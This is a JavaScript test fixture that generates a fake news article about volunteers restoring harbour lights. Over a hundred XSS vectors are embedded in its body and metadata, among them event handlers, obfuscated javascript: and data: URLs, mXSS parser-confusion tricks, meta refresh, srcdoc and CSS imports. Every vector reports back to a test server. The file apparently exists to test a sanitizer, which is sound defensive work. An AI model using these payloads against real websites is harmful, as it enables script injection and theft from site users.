// A hostile article page for the security tests: a real-looking article whose body and metadata
// carry a broad set of XSS vectors (event handlers, script-bearing URLs in every attribute that
// takes one and in every spelling browsers accept, mXSS namespace and raw-text confusion, <base>,
// meta refresh, srcdoc, SVG animation, CSS url() and @import). Every vector that ever runs calls
// back to the test server: GET /xss/run/<id>?ctx=…&at=… (ctx "shadow" when the code ran on an
// element inside a shadow root — the reader's —, else "page"); every stylesheet or image that a
// vector would make the browser fetch is /xss/css/<id>. Nothing here is site-specific.

/** JavaScript (single quotes only, no `<`, `>` or `"`) that reports vector `id` to `origin`. */
export function payload(origin, id) {
  return `void fetch('${origin}/xss/run/${id}?ctx='+(this&&this.getRootNode&&this.getRootNode() instanceof ShadowRoot?'shadow':'page')+'&at='+encodeURIComponent(location.href))`;
}

const SCHEMES = [
  ["js", (p) => `javascript:${p}`],
  ["js-case", (p) => `JaVaScRiPt:${p}`],
  ["js-tab", (p) => `java&#x09;script:${p}`],
  ["js-newline", (p) => `java&#x0A;script:${p}`],
  ["js-space", (p) => `&#x20;&#x01;javascript:${p}`],
  ["js-entities", (p) => `&#106;&#x61;vascript&colon;${p}`],
  ["js-comment", (p) => `javascript://%0A${encodeURIComponent(p)}`],
  ["data-html", (p) => `data:text/html;base64,${Buffer.from(`<script>${p}</script>`).toString("base64")}`],
  ["vbscript", () => "vbscript:msgbox(1)"],
];

/** Elements × the attribute that takes a URL; `{u}` is the URL, `{id}` a label. */
const URL_SLOTS = [
  ["a-href", '<a href="{u}">link {id}</a>'],
  ["area-href", '<map name="m{id}"><area shape="rect" coords="0,0,10,10" href="{u}" alt="area {id}"></map>'],
  ["form-action", '<form action="{u}"><button>send {id}</button></form>'],
  ["button-formaction", '<form><button formaction="{u}">go {id}</button></form>'],
  ["iframe-src", '<iframe src="{u}" title="f{id}"></iframe>'],
  ["object-data", '<object data="{u}">o{id}</object>'],
  ["embed-src", '<embed src="{u}">'],
  ["svg-a-href", '<svg width="40" height="20"><a href="{u}"><text x="0" y="15">s{id}</text></a></svg>'],
  ["svg-a-xlink", '<svg width="40" height="20"><a xlink:href="{u}"><text x="0" y="15">x{id}</text></a></svg>'],
  ["math-href", '<math><mi href="{u}">m{id}</mi></math>'],
  ["img-src", '<img src="{u}" alt="i{id}">'],
];

/** Single vectors: `{P}` is the payload, `{O}` the server origin, `{N}` the vector id, `{B64}` a
 * base64 HTML document that runs the payload. */
const SINGLES = [
  ["img-onerror", '<img src="/xss/missing.png" onerror="{P}" alt="broken">'],
  ["img-onload", '<img src="/samples/images/sea-wall.png" onload="{P}" alt="The sea wall">'],
  ["img-slash-attrs", '<img/src="/xss/missing.png"/onerror="{P}">'],
  ["img-upper", '<IMG SRC="/xss/missing.png" oNeRrOr="{P}">'],
  ["img-space-eq", '<img src="/xss/missing.png" onerror\n="{P}">'],
  ["img-quotes", '<img """><script>{P}</script>">'],
  ["img-backtick-alt", '<img src="/xss/missing.png" alt="``onerror={P}">'],
  ["img-srcset-js", '<img srcset="javascript:{P} 1x" alt="s">'],
  ["img-lowsrc", '<img lowsrc="javascript:{P}" dynsrc="javascript:{P}" alt="l">'],
  ["input-image", '<input type="image" src="/xss/missing.png" onerror="{P}">'],
  ["svg-onload", '<svg onload="{P}" width="1" height="1"></svg>'],
  ["svg-animate-onbegin", '<svg width="1" height="1"><animate onbegin="{P}" attributeName="x" dur="1s"></animate></svg>'],
  ["svg-set-onbegin", '<svg width="1" height="1"><set onbegin="{P}" attributeName="x" to="1"></set></svg>'],
  ["svg-discard", '<svg width="1" height="1"><discard onbegin="{P}"></discard></svg>'],
  ["svg-script", "<svg><script>{P}</script></svg>"],
  ["svg-script-href", '<svg><script href="data:,{P}"></script></svg>'],
  ["svg-foreign-img", '<svg><foreignObject width="10" height="10"><img src="/xss/missing.png" onerror="{P}"></foreignObject></svg>'],
  ["svg-image-onerror", '<svg width="1" height="1"><image href="/xss/missing.png" onerror="{P}"></image></svg>'],
  ["svg-animate-href", '<svg width="40" height="20"><a><animate attributeName="href" values="javascript:{P}"></animate><text x="0" y="15">anim</text></a></svg>'],
  ["svg-set-handler", '<svg width="1" height="1"><set attributeName="onmouseover" to="{P}"></set></svg>'],
  ["svg-use-data", `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='{P}'/&gt;&lt;/svg&gt;#x"></use></svg>`],
  ["svg-style-import", "<svg><style>@import '{O}/xss/css/{N}';</style></svg>"],
  ["body-onload", '<body onload="{P}">'],
  ["details-ontoggle", '<details open ontoggle="{P}"><summary>more</summary>details</details>'],
  ["input-autofocus", '<input autofocus onfocus="{P}">'],
  ["textarea-autofocus", '<textarea autofocus onfocus="{P}"></textarea>'],
  ["select-autofocus", '<select autofocus onfocus="{P}"><option>1</option></select>'],
  ["div-tabindex-focus", '<div tabindex="0" autofocus onfocus="{P}">focusable</div>'],
  ["video-onerror", '<video src="/xss/missing.mp4" onerror="{P}"></video>'],
  ["video-source-onerror", '<video><source src="/xss/missing.mp4" onerror="{P}"></video>'],
  ["audio-onerror", '<audio src="/xss/missing.mp3" onerror="{P}"></audio>'],
  ["video-poster-js", '<video poster="javascript:{P}"></video>'],
  ["video-poster-beacon", '<video poster="{O}/xss/css/{N}"></video>'],
  ["marquee-onstart", '<marquee onstart="{P}">news</marquee>'],
  ["animationstart", '<div style="animation: lucid-xss 1ms" onanimationstart="{P}">a</div>'],
  ["animationend", '<div style="animation: lucid-xss 1ms" onanimationend="{P}">b</div>'],
  ["transitionend", '<div style="transition: all 1ms" ontransitionend="{P}">c</div>'],
  ["iframe-onload", '<iframe onload="{P}" title="x"></iframe>'],
  ["iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;{P}&lt;/script&gt;" title="d"></iframe>'],
  ["iframe-srcdoc-img", '<iframe srcdoc="&lt;img src=/xss/missing.png onerror=&quot;{P}&quot;&gt;" title="e"></iframe>'],
  ["object-onerror", '<object data="/xss/missing.bin" onerror="{P}"></object>'],
  ["link-onerror", '<link rel="stylesheet" href="/xss/missing.css" onerror="{P}">'],
  ["style-onload", '<style onload="{P}">.lucid-xss-unused { color: red }</style>'],
  ["script-onerror", '<script src="/xss/missing.js" onerror="{P}"></script>'],
  ["script-data", '<script src="data:,{P}"></script>'],
  ["script-inline", "<script>{P}</script>"],
  ["frameset-onload", '<frameset onload="{P}"></frameset>'],
  ["onclick", '<p onclick="{P}">Click this sentence.</p>'],
  ["onmouseover", '<p onmouseover="{P}">Hover this sentence.</p>'],
  ["onpointerenter", '<span onpointerenter="{P}">pointer</span>'],
  ["onfocusin", '<span tabindex="0" onfocusin="{P}">focus</span>'],
  ["oncopy", '<p oncopy="{P}">Copy this.</p>'],
  ["a-onclick", '<a href="#x" onclick="{P}">anchor</a>'],
  ["a-id-js", '<a id="keep-{N}" href="javascript:{P}">kept id</a>'],
  ["a-title-breakout", '<a href="#t" title="&lt;/a&gt;&lt;img src=/xss/missing.png onerror=&quot;{P}&quot;&gt;">title</a>'],
  ["attr-quote-entity", '<p title="&quot;&gt;&lt;img src=/xss/missing.png onerror=&quot;{P}&quot;&gt;">quoted</p>'],
  ["attr-single-quote", `<p id="x' onmouseover='{P}">single</p>`],
  ["style-attr-url-js", '<div style="background-image: url(javascript:{P})">bg</div>'],
  ["style-attr-beacon", '<div style="background: url({O}/xss/css/{N})">beacon</div>'],
  ["style-expression", '<div style="width: expression({P})">expr</div>'],
  ["style-behavior", '<div style="behavior: url({O}/xss/css/{N})">htc</div>'],
  ["style-import", "<style>@import '{O}/xss/css/{N}';</style>"],
  ["style-bg-url", "<style>.lucid-xss-{N} { background: url({O}/xss/css/{N}) } </style><p class=\"lucid-xss-{N}\">styled</p>"],
  ["link-stylesheet", '<link rel="stylesheet" href="{O}/xss/css/{N}">'],
  ["link-prefetch", '<link rel="prefetch" href="{O}/xss/css/{N}">'],
  ["table-background", '<table background="javascript:{P}"><tr><td background="{O}/xss/css/{N}">cell</td></tr></table>'],
  ["meta-refresh-js", '<meta http-equiv="refresh" content="0;url=javascript:{P}">'],
  ["meta-refresh-data", `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${"{B64}"}">`],
  ["meta-refresh-later", '<meta http-equiv="refresh" content="3600;url={O}/xss/run/{N}">'],
  ["base-js", '<base href="javascript:{P}//">'],
  ["base-foreign", '<base href="//xss.invalid/">'],
  ["object-data-html", `<object data="data:text/html;base64,${"{B64}"}"></object>`],
  ["embed-js", '<embed src="javascript:{P}">'],
  ["comment-abrupt", "<!--><img src=/xss/missing.png onerror=\"{P}\">-->"],
  ["comment-dashes", "<!---><img src=/xss/missing.png onerror=\"{P}\">-->"],
  ["cdata-bogus", "<![CDATA[><img src=/xss/missing.png onerror=\"{P}\">]]>"],
  ["pi-bogus", "<?xml ><img src=/xss/missing.png onerror=\"{P}\">?>"],
  ["xmp-raw", '<xmp><img src=/xss/missing.png onerror="{P}"></xmp>'],
  ["textarea-raw", '<textarea><img src=/xss/missing.png onerror="{P}"></textarea>'],
  ["title-rcdata", '<title><img src=/xss/missing.png onerror="{P}"></title>'],
  ["noembed-raw", '<noembed><img src=/xss/missing.png onerror="{P}"></noembed>'],
  ["noframes-raw", '<noframes><img src=/xss/missing.png onerror="{P}"></noframes>'],
  ["noscript-attr", '<noscript><p title="</noscript><img src=/xss/missing.png onerror=\'{P}\'>"></p></noscript>'],
  ["noscript-style", "<noscript><style></noscript><img src=/xss/missing.png onerror=\"{P}\"></style></noscript>"],
  ["svg-style-img", '<svg><p><style><img src=/xss/missing.png onerror="{P}"></style></p></svg>'],
  ["math-style-img", '<math><style><img src=/xss/missing.png onerror="{P}"></style></math>'],
  ["math-mtext-mglyph", '<math><mtext><table><mglyph><style><img src=/xss/missing.png onerror="{P}"></style></mglyph></table></mtext></math>'],
  ["svg-p-style-a", '<svg></p><style><a id="</style><img src=/xss/missing.png onerror=\'{P}\'>"></a></style></svg>'],
  ["math-annotation-xml", '<math><annotation-xml encoding="text/html"><img src=/xss/missing.png onerror="{P}"></annotation-xml></math>'],
  ["math-maction", '<math><maction actiontype="statusline" xlink:href="javascript:{P}">ma</maction></math>'],
  ["template-img", '<template><img src=/xss/missing.png onerror="{P}"></template>'],
  ["scr-split", "<scr<script>ipt>{P}</scr</script>ipt>"],
  ["form-mxss", '<form><math><mtext></form><form><mglyph><style></math><img src=/xss/missing.png onerror="{P}"></style></mglyph></mtext></math></form>'],
  ["contenteditable", '<div contenteditable onfocus="{P}" autofocus>edit</div>'],
  ["dialog-open", '<dialog open onclose="{P}">dialog</dialog>'],
  ["popover", '<div popover id="pop-{N}" ontoggle="{P}">pop</div><button popovertarget="pop-{N}">toggle</button>'],
  ["isindex", '<isindex action="javascript:{P}" type="image">'],
];

/** Metadata vectors: the title, byline, site name, date, description, image and canonical URL. */
function head(origin, P) {
  const img = `<img src=/xss/missing.png onerror="${P("meta-inline")}">`;
  const ld = JSON.stringify({
    "@context": "https://schema.org", "@type": "NewsArticle",
    headline: "How the harbour lights were restored",
    author: { "@type": "Person", name: `Maya Lindqvist <img src=/xss/missing.png onerror="${P("ld-author")}">` },
    datePublished: `2024-03-05<script>${P("ld-date")}</script>`,
    publisher: { "@type": "Organization", name: `The Coastal Review<svg onload="${P("ld-publisher")}">` },
    image: `javascript:${P("ld-image")}`,
    description: `<iframe srcdoc="<script>${P("ld-description")}</script>">`,
  }).replace(/</g, "\\u003c");
  const esc = (s) => s.replace(/&/g, "&amp;").replace(/"/g, "&quot;").replace(/</g, "&lt;").replace(/>/g, "&gt;");
  return [
    `<title>How the harbour lights were restored ${esc(img)} | The Coastal Review</title>`,
    `<meta property="og:title" content="How the harbour lights were restored">`,
    `<meta property="og:site_name" content="The Coastal Review ${esc(img)}">`,
    `<meta name="author" content="Maya Lindqvist ${esc(`"><script>${P("meta-author")}</script>`)}">`,
    `<meta name="description" content="${esc(`<svg onload="${P("meta-description")}">`)}">`,
    `<meta property="og:image" content="javascript:${esc(P("og-image"))}">`,
    `<meta property="article:published_time" content="2024-03-05T09:00:00Z">`,
    `<link rel="canonical" href="javascript:${esc(P("canonical"))}">`,
    `<script type="application/ld+json">${ld}</script>`,
    `<style>@keyframes lucid-xss { from { opacity: 0.99 } to { opacity: 1 } }</style>`,
  ].join("\n");
}

export const PARAGRAPHS = [
  "For thirty years the three lights at the harbour mouth were dark. The lamps had been removed in the nineteen-nineties, when satellite navigation made them seem unnecessary, and the towers slowly rusted in the salt air while the council argued over who should pay for them.",
  "Last spring a group of retired fishermen decided to stop waiting. They raised the money themselves, one raffle at a time, and persuaded an engineering firm in the next town to lend them a crane for a weekend in exchange for a mention on the plaque.",
  "The work took four months. The old lenses were cleaned by hand in a shed behind the lifeboat station, and the wiring was replaced with cable donated by a shipyard that had closed its own yard the year before and had more cable than it could sell.",
  "Nobody had kept the drawings of the towers, so the volunteers measured everything again with a tape and a borrowed laser, and a retired draughtsman drew the plans on the kitchen table of the harbour master, who lent them his office for the winter.",
  "The hardest part was the north light, whose iron cage had rusted through at the base. A blacksmith from the hills forged new brackets in his own forge, and refused to be paid for them, saying that his grandfather had steered by that light for forty years.",
  "Money ran short twice. The first time a bakery in the high street gave a week of its takings; the second time the children of the primary school sold paintings of the lighthouse at the summer fair and raised more than the fishermen had managed in a month.",
  "On the first night the lights came back on, half the town walked down to the quay to watch. A few of the older fishermen, who had steered by those lights as young men, stood at the end of the pier long after everyone else had gone home.",
  "The lights are not needed for navigation any more, and nobody pretends they are. But boats coming home at dusk now see the harbour mouth from miles out, and the crews say that it is a comfort to know exactly where the rocks begin.",
  "The council has since agreed to pay for the electricity, and a small charity now owns the towers. Its first meeting was held in the lifeboat station, with tea in the same mugs that the volunteers had used all winter.",
  "The fishermen say the next job is the fog horn, which has been silent even longer. They have already found the compressor it needs, in a scrapyard two counties away, and the bakery has promised another week of its takings.",
];

/** The whole page; `origin` is the test server's origin. Returns { html, ids }. */
export function xssPage(origin) {
  const P = (id) => payload(origin, id);
  const vectors = [];
  for (const [slot, tpl] of URL_SLOTS) {
    for (const [scheme, url] of SCHEMES) {
      const id = `${slot}.${scheme}`;
      vectors.push({ id, html: tpl.replaceAll("{u}", url(P(id))).replaceAll("{id}", vectors.length) });
    }
  }
  for (const [id, tpl] of SINGLES) {
    const b64 = Buffer.from(`<script>${P(id)}</script>`).toString("base64");
    vectors.push({ id, html: tpl.replaceAll("{P}", P(id)).replaceAll("{O}", origin).replaceAll("{N}", id).replaceAll("{B64}", b64) });
  }
  // The vectors between the article's paragraphs, a few after each, the riskiest (those that
  // leave elements open) last.
  const per = Math.ceil(vectors.length / PARAGRAPHS.length);
  const body = PARAGRAPHS.map((text, i) => `<p>${text}</p>\n${vectors.slice(i * per, (i + 1) * per).map((v) => `<div class="note">${v.html}</div>`).join("\n")}`).join("\n");
  const html = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
${head(origin, P)}
</head>
<body>
<article>
<h1>How the harbour lights were restored</h1>
<p class="byline">By Maya Lindqvist</p>
${body}
</article>
</body>
</html>
`;
  const meta = ["meta-inline", "ld-author", "ld-date", "ld-publisher", "ld-image", "ld-description", "meta-author", "meta-description", "og-image", "canonical"];
  return { html, ids: [...vectors.map((v) => v.id), ...meta] };
}
